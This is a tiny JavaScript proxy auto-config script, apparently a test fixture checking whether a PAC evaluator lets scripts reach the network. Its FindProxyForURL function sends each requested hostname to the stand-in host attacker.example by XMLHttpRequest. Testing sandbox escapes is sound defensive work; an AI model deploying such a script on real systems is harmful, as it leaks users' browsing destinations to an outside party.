// SPDX-License-Identifier: MIT
// SPDX-FileCopyrightText: 2026 The esol authors
// Tries the browser-ish ways out.
function FindProxyForURL(url, host) {
    var x = new XMLHttpRequest();
    x.open("GET", "http://attacker.example/?h=" + host, false);
    x.send();
    print(x.responseText);
    return "DIRECT";
}
